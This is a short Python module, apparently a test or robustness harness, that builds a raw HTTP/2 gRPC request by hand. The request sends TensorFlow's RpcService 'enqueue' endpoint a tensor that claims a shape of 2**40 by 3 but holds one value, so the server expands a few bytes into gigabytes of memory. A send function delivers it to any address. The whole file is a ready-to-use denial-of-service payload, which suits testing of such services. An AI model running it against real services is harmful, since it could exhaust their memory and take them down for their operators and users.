"""A message of a few bytes that TensorFlow expands to gigabytes, for the port of a learner.

gRPC over HTTP/2, written by hand: a call of the endpoint `enqueue` whose tensor claims a shape of
[`rows`, 3] and carries one value. TensorFlow expands it before the learner's function sees it.
"""

import contextlib
import socket
import struct

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def hostile_message(rows: int = 2**40) -> bytes:
    """Return all bytes that a client sends."""
    shape = _field(2, b"\x08" + _varint(rows)) + _field(2, b"\x08\x03")
    tensor = b"\x08\x01" + _field(2, shape) + _field(5, struct.pack("<f", 0))
    call = _field(1, b"enqueue") + _field(2, tensor)
    names = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/tensorflow.rpc.RpcService/Call"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    headers = b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in names
    )
    data = b"\0" + struct.pack(">I", len(call)) + call
    return _PREFACE + _frame(4, 0, 0) + _frame(1, 4, 1, headers) + _frame(0, 1, 1, data)


def send_hostile(address: str) -> socket.socket:
    """Send the message to a port, and return the connection, which stays open."""
    host, port = address.split(":")
    connection = socket.socket()
    connection.settimeout(5)
    with contextlib.suppress(ConnectionError):  # refused before it says anything
        connection.connect((host, int(port)))
        connection.sendall(hostile_message())
    return connection


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(content))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + content
    )


def _field(number: int, content: bytes) -> bytes:
    return bytes([number << 3 | 2]) + _varint(len(content)) + content


def _varint(number: int) -> bytes:
    found = b""
    while number > 127:
        found += bytes([number & 127 | 128])
        number >>= 7
    return found + bytes([number])
